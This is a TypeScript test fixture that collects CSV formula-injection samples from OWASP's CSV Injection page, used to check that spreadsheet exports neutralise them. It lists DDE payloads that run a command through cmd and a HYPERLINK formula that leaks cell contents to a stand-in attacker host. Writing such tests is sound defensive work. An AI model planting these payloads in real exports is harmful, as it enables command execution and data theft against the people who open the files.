/**
 * The formula-injection cells of OWASP's "CSV Injection" page, as an imported description could carry
 * them. Every CSV writer's test feeds these through and expects each cell back with a leading apostrophe
 * (see spreadsheet.ts). Unused by the product itself, so bundlers drop it.
 */
export const FORMULA_INJECTION_SAMPLES: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '\t=1+1',
  '\r=1+1',
];
